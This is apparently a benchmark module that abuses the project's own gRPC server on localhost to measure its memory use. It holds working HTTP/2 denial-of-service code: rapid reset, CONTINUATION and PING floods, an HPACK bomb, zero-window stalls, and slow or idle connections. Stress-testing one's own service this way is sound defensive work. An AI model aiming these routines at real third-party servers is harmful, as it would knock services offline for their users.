"""What a peer may do to a server of gRPC that it should not, each as a function of its port: for `benchmarks.abuse`.

Frames are made by hand and sent on blocking sockets. A function returns the sockets that stay open until memory was
looked at, and says in its first line what it does.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import time
from collections.abc import Callable

from service.http2 import frames as wire

EMBED = b"/latentserve.v1.EmbeddingService/Embed"
STREAM = b"/latentserve.v1.EmbeddingService/ScoreStream"
SECONDS = 6.0
SMALL_BUFFER_BYTES = 4096
Sockets = list[socket.socket]


def block(path: bytes = EMBED, extra: tuple[tuple[bytes, bytes], ...] = ()) -> bytes:
    """Headers of a call."""
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"))
    return wire.literal_headers((*fields, (b"content-type", b"application/grpc"), (b"te", b"trailers"), *extra))


def head(stream: int, path: bytes = EMBED, extra: tuple[tuple[bytes, bytes], ...] = (), ends: bool = False) -> bytes:
    """HEADERS of a call."""
    return wire.frame(wire.HEADERS, wire.END_HEADERS | ends, stream, block(path, extra))


def connect(
    port: int, settings: dict[int, int] | None = None, greets: bool = True, deaf: bool = False
) -> socket.socket:
    """A connection; a deaf one will not read, and has little room for what comes."""
    peer = socket.socket()
    if deaf:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_BUFFER_BYTES)
    peer.settimeout(3)
    peer.connect(("127.0.0.1", port))
    if greets:
        peer.sendall(wire.PREFACE + wire.settings(settings or {}))
    return peer


def pour(peer: socket.socket, data: bytes, seconds: float = SECONDS, reads: bool = False) -> None:
    """Sends the same again and again, until it is over or the server will not have it."""
    until = time.monotonic() + seconds
    with contextlib.suppress(OSError):
        while time.monotonic() < until:
            peer.sendall(data)
            if reads:
                peer.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    peer.recv(2**18)
                peer.settimeout(3)


def flood(frame: bytes, *first: bytes, deaf: bool = True, reads: bool = False) -> Callable[[int], Sockets]:
    """The same frame for six seconds."""

    def abuse(port: int) -> Sockets:
        peer = connect(port, deaf=deaf)
        peer.sendall(b"".join(first))
        pour(peer, frame * 2000, reads=reads)
        return [peer]

    return abuse


def rapid_reset(port: int) -> Sockets:
    """Calls that are begun and cancelled at once, on a new connection whenever one is closed."""
    peers: Sockets = []
    until = time.monotonic() + SECONDS
    while time.monotonic() < until and len(peers) < 400:
        peer = connect(port)
        peers.append(peer)
        with contextlib.suppress(OSError):
            for first in range(1, 2**16, 400):
                many = range(first, first + 400, 2)
                peer.sendall(b"".join(head(stream, STREAM) + wire.reset(stream, wire.CANCEL) for stream in many))
                if time.monotonic() > until:
                    break
    return peers


def hpack_bomb(port: int) -> Sockets:
    """A header of 3,900 bytes in the table, named 12,000 times."""
    peer = connect(port)
    big = b"\x40\x05x-big\x7f" + bytes([3900 - 127 & 0x7F | 0x80, 3900 - 127 >> 7]) + b"a" * 3900
    with contextlib.suppress(OSError):
        peer.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, 1, block() + big))
        for stream in range(3, 103, 2):
            bomb = block() + b"\xbe" * 12_000
            peer.sendall(wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, stream, bomb))
    return [peer]


def calls(bodies: bytes, extra: tuple[tuple[bytes, bytes], ...] = (), deaf: bool = False) -> Callable[[int], Sockets]:
    """200 calls whose answers are not taken: no room is given for them, or (deaf) nothing is read."""

    def abuse(port: int) -> Sockets:
        room = 2**31 - 1 if deaf else 0
        peer = connect(port, {wire.INITIAL_WINDOW_SIZE: room}, deaf=deaf)
        with contextlib.suppress(OSError):
            if deaf:
                peer.sendall(wire.window_update(0, room - wire.DEFAULT_WINDOW_BYTES))
            for stream in range(1, 401, 2):
                parts = [bodies[at : at + 2**14] for at in range(0, len(bodies), 2**14)]
                data = (wire.frame(wire.DATA, int(part is parts[-1]), stream, part) for part in parts)
                peer.sendall(head(stream, EMBED, extra) + b"".join(data))
                time.sleep(0.03)
        time.sleep(3)
        return [peer]

    return abuse


def unread_errors(port: int) -> Sockets:
    """Calls of a method that is not there, whose statuses are not read."""
    peer = connect(port, deaf=True)
    until, stream = time.monotonic() + SECONDS, 1
    with contextlib.suppress(OSError):
        while time.monotonic() < until:
            many = range(stream, stream + 400, 2)
            peer.sendall(b"".join(head(one, b"/" + b"a" * 900, ends=True) for one in many))
            stream += 400
    return [peer]


def slow_readers(port: int) -> Sockets:
    """200 connections that read a byte now and then of a large answer."""
    peers = [connect(port, deaf=True) for _ in range(200)]
    for peer in peers:
        peer.sendall(head(1, b"/" + b"a" * 900, ends=True))
    for _ in range(int(SECONDS)):
        for peer in peers:
            peer.recv(1)
        time.sleep(1)
    return peers


def slow_senders(port: int) -> Sockets:
    """300 connections that send a byte a second; returns those that are open after a minute."""
    peers = [connect(port, greets=False) for _ in range(300)]
    data = wire.PREFACE + wire.settings({}) + head(1)
    for at in range(60):
        for peer in list(peers):
            try:
                peer.sendall(data[at : at + 1])
                peer.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        if not peer.recv(2**16):
                            raise ConnectionError
            except OSError:
                peers.remove(peer)
            finally:
                peer.settimeout(3)
        time.sleep(1)
    return peers


def idle(port: int) -> Sockets:
    """2,000 connections that do nothing."""
    peers = [connect(port) for _ in range(2000)]
    time.sleep(2)
    return peers


def endless_bodies(port: int) -> Sockets:
    """Sixteen calls, each with up to 60 MiB of 62 as far as the windows let them, and never the rest."""
    peer = connect(port)
    part = wire.frame(wire.DATA, 0, 1, bytes(2**14))[9:]
    with contextlib.suppress(OSError):
        for stream in range(1, 33, 2):
            peer.sendall(head(stream) + wire.frame(wire.DATA, 0, stream, struct.pack(">BI", 0, 62 * 2**20)))
        for _ in range(63):  # just under the window of a stream and of the connection
            peer.sendall(b"".join(wire.frame(wire.DATA, 0, stream, part) for stream in range(1, 33, 2)))
        for _ in range(60):
            peer.recv(2**18)
            for stream in range(1, 33, 2):
                peer.sendall(wire.frame(wire.DATA, 0, stream, part) * 32)
    time.sleep(1)
    return [peer]


def abuses(rows: bytes) -> dict[str, Callable[[int], Sockets]]:
    """All of them by name.

    Args:
        rows: body of a call that is answered with much.
    """
    one_field = wire.literal_headers(((b"x", b"a" * 99),))
    continuation = wire.frame(wire.HEADERS, 0, 1, block())
    return {
        "rapid reset": rapid_reset,
        "CONTINUATION": flood(wire.frame(wire.CONTINUATION, 0, 1, one_field), continuation),
        "CONTINUATION, empty": flood(wire.frame(wire.CONTINUATION, 0, 1), continuation),
        "HPACK bomb": hpack_bomb,
        "SETTINGS": flood(wire.settings({wire.INITIAL_WINDOW_SIZE: 65_535}), head(1, STREAM)),
        "PING": flood(wire.frame(wire.PING, 0, 0, bytes(8)), head(1, STREAM)),
        "PING, answers read": flood(wire.frame(wire.PING, 0, 0, bytes(8)), deaf=False, reads=True),
        "WINDOW_UPDATE, 1,000 streams": flood(
            wire.window_update(0, 1), *(head(1 + 2 * n) for n in range(999)), deaf=False
        ),
        "empty DATA": flood(wire.frame(wire.DATA, 0, 1), head(1)),
        "unread answers": calls(rows, deaf=True),
        "unread errors": unread_errors,
        "zero window": calls(rows),
        "zero window, past the deadline": calls(rows, ((b"grpc-timeout", b"2S"),)),
        "200 slow readers": slow_readers,
        "300 slow senders": slow_senders,
        "2,000 idle connections": idle,
        "bodies never finished": endless_bodies,
    }
